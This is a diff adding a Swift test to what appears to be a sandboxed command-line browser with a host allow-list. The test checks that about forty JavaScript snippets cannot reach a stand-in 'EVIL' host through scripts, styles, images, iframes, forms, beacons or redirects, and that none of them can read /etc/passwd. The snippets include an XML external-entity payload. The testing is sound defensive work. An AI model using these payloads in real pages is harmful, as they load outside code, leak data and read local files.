@@ -37,6 +37,92 @@ import Testing
         scenario.expectNoTrespass()
     }
 
+    @Test(
+        "what scripts make, and what they lead to, asks nobody outside of the list",
+        arguments: makers)
+    func made(door: Door) async throws {
+        let scenario = Scenario()
+        guard case .page(let body, let type, let headers) = door.attempt else { return }
+        let tools = """
+            const make = (name, attributes, parent = document.body) => {
+              const e = document.createElement(name);
+              for (const [n, v] of Object.entries(attributes)) e.setAttribute(n, v);
+              parent.append(e); return e };
+            const draw = (name, attributes) => {
+              const ns = 'http://www.w3.org/2000/svg', e = document.createElementNS(ns, name);
+              for (const [n, v] of Object.entries(attributes)) e.setAttribute(n, v);
+              const svg = document.createElementNS(ns, 'svg'); svg.append(e);
+              document.body.append(svg) };
+            """
+        scenario.servers.page(
+            "/\(scenario.id)",
+            scenario.filled(
+                "<body><p id=p>SHOWN</p><script>\(tools)\ntry { \(body) } catch {}</script>"),
+            type: type, headers: scenario.filled(headers))
+        let result = try await scenario.garth(
+            rules: ["GOOD", "ALSO"], ["--dump", "--javascript", "on", "http://GOOD/ID"])
+        #expect(!result.output.contains("root:"))
+        #expect(
+            result.status == 77 || (result.status == 0 && result.output.contains("SHOWN")),
+            "\(result)")
+        scenario.expectNoTrespass()
+    }
+
+    static let makers: [Door] = [
+        "make('script', { src: 'http://EVIL/a.js' })",
+        "make('script', { src: 'http://EVIL/a.js', type: 'module' })",
+        "import('http://EVIL/a.js').catch(() => {})",
+        "make('script', { type: 'importmap' }).textContent = "
+            + "JSON.stringify({ imports: { a: 'http://EVIL/a.js' } }); import('a').catch(() => {})",
+        "document.write('<script src=http://EVIL/a.js></' + 'script>')",
+        "make('link', { rel: 'stylesheet', href: 'http://EVIL/a.css' })",
+        "make('style', {}).textContent = '@import url(http://EVIL/a.css);'",
+        "make('style', {}).textContent = 'p { background: url(http://EVIL/a.png) }"
+            + " @font-face { font-family: f; src: url(http://EVIL/f) } p { font-family: f }'",
+        "make('style', {}).sheet.insertRule('@import \"http://EVIL/a.css\"')",
+        "const s = new CSSStyleSheet(); s.replaceSync('p { list-style: url(http://EVIL/a.png) }');"
+            + " document.adoptedStyleSheets = [s]; p.style.content = 'url(http://EVIL/b.png)'",
+        "make('img', { src: 'http://EVIL/a.png', srcset: 'http://EVIL/b.png 2x' });"
+            + " new Image().src = 'http://EVIL/c.png'",
+        "make('div', {}).innerHTML ="
+            + " '<picture><source srcset=http://EVIL/a.png><img src=http://EVIL/b.png>'",
+        "draw('image', { href: 'http://EVIL/a.png' })",
+        "draw('use', { href: 'http://EVIL/a.svg#b' })",
+        "draw('script', { href: 'http://EVIL/a.js' })",
+        "draw('feImage', { href: 'http://EVIL/a.png' })",
+        "make('iframe', { src: 'http://EVIL/' })",
+        "make('iframe', { srcdoc: '<img src=http://EVIL/a.png><iframe src=http://EVIL/>' })",
+        "make('iframe', {}).contentWindow.fetch('http://EVIL/')",
+        "make('iframe', { name: 'f' }); open('http://EVIL/', 'f')",
+        "make('object', { data: 'http://EVIL/' }); make('embed', { src: 'http://EVIL/' })",
+        "make('video', { src: 'http://EVIL/v', poster: 'http://EVIL/p' });"
+            + " make('audio', { src: 'http://EVIL/a' }); new Audio('http://EVIL/b').play()"
+            + ".catch(() => {})",
+        "for (const rel of ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'modulepreload',"
+            + " 'prerender', 'icon', 'manifest']) make('link', { rel, as: 'script',"
+            + " href: 'http://EVIL/' + rel })",
+        "make('script', { type: 'speculationrules' }).textContent ="
+            + " '{\"prefetch\":[{\"urls\":[\"http://EVIL/\"]}]}'",
+        "make('a', { href: 'http://EVIL/', ping: 'http://EVIL/ping' }).click()",
+        "make('meta', { 'http-equiv': 'refresh', content: '0;url=http://EVIL/' }, document.head)",
+        "location = 'http://EVIL/'",
+        "location.replace('http://EVIL/')",
+        "location.host = 'EVIL'",
+        "open('http://EVIL/')",
+        "make('form', { action: 'http://EVIL/', method: 'post' }).submit()",
+        "const f = make('form', {}); make('button', { formaction: 'http://EVIL/' }, f).click()",
+        "navigator.sendBeacon('http://EVIL/', 'b')",
+        "new EventSource('http://EVIL/')",
+        "new FontFace('f', 'url(http://EVIL/f)').load().catch(() => {})",
+        "const x = new DOMParser().parseFromString('<!DOCTYPE a SYSTEM \"http://EVIL/a.dtd\" ["
+            + "<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>', 'text/xml');"
+            + " p.append(x.documentElement.textContent)",
+        "p.attachShadow({ mode: 'open' }).innerHTML ="
+            + " '<slot></slot><img src=http://EVIL/a.png><link rel=stylesheet href=http://EVIL/a.css>'",
+        "Object.prototype.url = 'http://EVIL/'; Array.prototype[0] = 'http://EVIL/';"
+            + " String.prototype.toString = () => 'http://EVIL/'; fetch('/ID').catch(() => {})",
+    ].map { Door($0, .page($0)) }
+
     static let scriptDoors: [Door] = [
         "get('http://EVIL/a')",
         "get('//EVIL/a', { mode: 'no-cors' })",
